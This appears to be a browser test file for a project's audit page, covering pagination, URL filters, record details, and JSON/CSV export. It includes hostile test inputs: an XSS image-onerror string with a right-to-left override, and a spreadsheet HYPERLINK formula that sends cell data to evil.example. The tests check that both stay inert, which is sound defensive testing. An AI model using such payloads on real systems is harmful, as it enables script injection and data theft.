/** The audit on the owner's page: filters in the address, new records, one record, and the export. */
import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { cell } from '../../sdk/audit-export.ts'
import type { AuditRecord } from '../../sdk/browser.ts'
import { exported } from '../../server/portal/page/screens/audit/export.ts'
import { startBridge, type TestBridge } from '../support/bridge.ts'
import { type Chromium, inChromium, startChromium, type Visitor } from './chromium.ts'
import { signIn } from './sign-in.ts'

const hostile = '<img src=x onerror=alert(1)>\u202eright'
const formula = '=HYPERLINK("https://evil.example/?"&A1)'

inChromium('the audit', () => {
  let bridge: TestBridge
  let chromium: Chromium
  let visitor: Visitor
  let conversation: string
  let audit: string

  beforeAll(async () => {
    ;[bridge, chromium] = await Promise.all([startBridge(), startChromium()])
    const { ada, ben, owner, project } = bridge
    audit = `${bridge.url}/projects/${project.id}/audit`
    const { id } = await owner.createAgent(project.id, formula)
    await owner.takeover(project.id, id, { reason: hostile })
    conversation = await ada.conversationWith(ben.id)
    for (let number = 0; number < 120; number += 1) await owner.message(project.id, ben.id, `${number}`)
    visitor = await chromium.visitor(bridge.url, { acceptDownloads: true })
    await signIn(visitor.page, bridge.url, `/projects/${project.id}/audit`)
  })
  afterAll(async () => {
    await chromium.close()
    await bridge.close()
  })

  const rows = () => visitor.page.locator('.records > li')
  const button = (name: string | RegExp) => visitor.page.getByRole('button', { name })
  const choose = (label: string, value: string) => visitor.page.getByLabel(label).selectOption(value)
  const search = () => new URL(visitor.page.url()).searchParams

  test('shows pages of 100 records, newest first', async () => {
    const { page, picture } = visitor
    await expect.poll(() => rows().count()).toBe(100)
    await rows().first().getByText('message sent').waitFor()
    await picture('audit')
    await button('Show older records').click()
    await expect.poll(() => rows().count()).toBeGreaterThan(120)
    await rows().last().getByText('project created').waitFor()
    expect(await page.getByRole('button', { name: 'Show older records' }).count()).toBe(0)
  })

  test('shows each time in one line, and both ends of a span side by side', async () => {
    const { page } = visitor
    await page.setViewportSize({ width: 1280, height: 800 })
    const heights = await page
      .locator('.records time')
      .evaluateAll((all) => all.map((each) => [each.clientHeight < 30, each.scrollWidth > each.clientWidth]))
    expect(new Set(heights.map(String))).toEqual(new Set(['true,false']))
    const topOf = async (label: string) => (await page.getByLabel(label).boundingBox())?.y
    expect(await topOf('Until')).toBe(await topOf('Since'))
    expect(await topOf('Kind')).toBe(await topOf('Subject'))
  })

  test('keeps its filters in the address, after a reload and after every act', async () => {
    const { page } = visitor
    await choose('Kind', 'message.sent')
    await page.getByLabel('Actor').selectOption({ label: 'you (olu)' })
    await page.getByRole('button', { name: 'Last day' }).click()
    await expect.poll(() => search().has('since')).toBe(true)
    await page.reload()
    await expect.poll(() => rows().count()).toBe(100)
    await button('Show older records').click()
    await expect.poll(() => rows().count()).toBe(120)
    await rows().nth(3).locator('summary').first().click()
    await page.getByText('An agent or an owner sent a message.').waitFor()
    expect([search().get('kind'), search().get('actor'), search().has('since')]).toEqual([
      'message.sent',
      await page.getByLabel('Actor').inputValue(),
      true,
    ])
    expect(await page.getByLabel('Kind').inputValue()).toBe('message.sent')
    await page.goBack()
    await expect.poll(() => search().has('since')).toBe(false)
  })

  test('says that nothing fits, refuses half an id, and drops a filter that the node would refuse', async () => {
    const { page, picture } = visitor
    await page.goto(`${audit}?kind=task.failed`)
    await page.getByText('Nothing fits. Clear the filters.').waitFor()
    await picture('audit-empty')
    await page.getByLabel('Subject').fill('0189')
    await page.getByText('Not a whole id').waitFor()
    expect(search().has('subject')).toBe(false)
    await button('Clear the filters').click()
    await expect.poll(() => rows().count()).toBe(100)
    expect(page.url()).toBe(audit)
    await page.goto(`${audit}?kind=no.kind&actor=x&since=yesterday`)
    await expect.poll(() => rows().count()).toBe(100)
    expect(await page.getByRole('alert').count()).toBe(0)
  })

  test('counts new records, and shows them when the owner asks', async () => {
    const { page } = visitor
    await page.goto(audit)
    await expect.poll(() => rows().count()).toBe(100)
    for (const body of ['a', 'b', 'c', 'd']) await bridge.ada.send(conversation, bridge.ben.id, body)
    await page.getByRole('button', { name: '4 new ↑' }).click()
    await expect.poll(() => rows().count()).toBe(104)
    expect(await button(/new ↑/).count()).toBe(0)
    await page.goto(`${audit}?kind=agent.created`)
    await expect.poll(() => rows().count()).toBe(3)
    await bridge.ada.send(conversation, bridge.ben.id, 'e')
    await bridge.owner.createAgent(bridge.project.id, 'zoe')
    await page.getByRole('button', { name: '1 new ↑' }).waitFor()
  })

  test('opens a record in place, with everything about its subject, and hostile text stays text', async () => {
    const { page, picture, faults } = visitor
    await page.goto(`${audit}?kind=takeover.issued`)
    const row = rows().first()
    await row.locator('summary').first().click()
    await page.getByText('<img src=x onerror=alert(1)>').first().waitFor()
    await page.getByText('<U+202E>').first().waitFor()
    await row.getByText('JSON', { exact: true }).click()
    await picture('audit-record')
    expect(await row.locator('pre').textContent()).toContain('\\u202e')
    expect(await page.locator('main img').count()).toBe(0)
    await row.getByRole('button', { name: 'Copy', exact: true }).first().click()
    await row.getByText(/Selected: press|Copied/).waitFor()
    await row.getByRole('link', { name: 'Everything about this subject' }).click()
    await expect.poll(() => search().get('subject')).not.toBe(null)
    await rows().first().waitFor()
    expect(search().has('kind')).toBe(false)
    expect(faults).toEqual([])
  })

  const saved = async (name: string) => {
    const [file] = await Promise.all([visitor.page.waitForEvent('download'), button(name).click()])
    expect(file.suggestedFilename()).toMatch(/^bridge-audit-\d{8}T\d{6}Z\.(jsonl|csv)$/)
    const folder = await mkdtemp(join(tmpdir(), 'bridge-export-'))
    await file.saveAs(join(folder, 'audit'))
    const text = await readFile(join(folder, 'audit'), 'utf8')
    await rm(folder, { recursive: true })
    return text
  }

  test('is saved as the node gives it, page by page', async () => {
    await visitor.page.goto(`${audit}?kind=message.sent`)
    const lines = (await saved('Export as JSON lines')).trimEnd().split('\n')
    await visitor.page.getByText('Saved 125 records.').waitFor()
    const target = `/api/admin/projects/${bridge.project.id}/audit?kind=message.sent&order=newest_first&limit=100`
    const { audit: first } = await bridge.owner.ok<{ audit: AuditRecord[] }>({ target })
    expect(lines).toHaveLength(125)
    expect(lines.slice(0, 100).map((line) => JSON.parse(line))).toEqual(first)
  })

  test('is saved as CSV in which no cell is a formula', async () => {
    await visitor.page.goto(`${audit}?kind=agent.created`)
    const text = await saved('Export as CSV')
    expect(text.split('\r\n')[0]).toBe(
      'at,kind,actor_kind,actor_name,actor_id,subject_type,subject_id,project_id,request_id,id,details',
    )
    expect(text).not.toMatch(/(^|,|\n)"?[=+\-@\t\r]/)
    expect(text).toContain('HYPERLINK')
    expect(visitor.faults).toEqual([])
  })

  test('is not saved after Stop, nor after a refusal', async () => {
    const { page } = visitor
    let goOn = () => {}
    const held = new Promise<void>((resolve) => {
      goOn = resolve
    })
    await page.goto(audit)
    await expect.poll(() => rows().count()).toBe(100)
    await page.route('**/audit?*after=*', async (route) => {
      await held
      await route.continue().catch(() => undefined)
    })
    await button('Export as CSV').click()
    await page.getByText('100 records read…').waitFor()
    await button('Stop').click()
    await page.getByText('Stopped. Nothing was saved.').waitFor()
    goOn()
    await page.unroute('**/audit?*after=*')
    await page.route('**/audit?*after=*', (route) =>
      route.fulfill({
        status: 500,
        json: { error: 'internal', message: 'x', request_id: 'r1', retryable: false, details: {} },
      }),
    )
    await button('Export as CSV').click()
    await page.getByText(/A bug in the node/).waitFor()
    await page.unroute('**/audit?*after=*')
  })
})

test('an export ends at its limit, and says that records are missing', async () => {
  const record = { id: 'x', details: {}, actor: {}, subject: {} } as AuditRecord
  const page = { audit: Array.from({ length: 100 }, () => record), has_more: true }
  let reads = 0
  const read = async () => {
    reads += 1
    return { ...page, next_after: `${reads}` }
  }
  const seen: number[] = []
  const { count, isCut, texts } = await exported('jsonl', read, (each) => seen.push(each), 250)
  expect({ count, isCut, reads, seen }).toEqual({ count: 250, isCut: true, reads: 3, seen: [100, 200, 250] })
  expect(texts.join('').trimEnd().split('\n')).toHaveLength(250)
})

test.each([
  ['=1+1', "'=1+1"],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t=1"],
  ['\r=1', '"\'\r=1"'],
  ['=A1,"x"', '"\'=A1,""x"""'],
  ['two\nlines', '"two\nlines"'],
  ['a=1', 'a=1'],
  [null, ''],
])('the cell %j of a CSV file is %j', (value, written) => {
  expect(cell(value)).toBe(written)
})
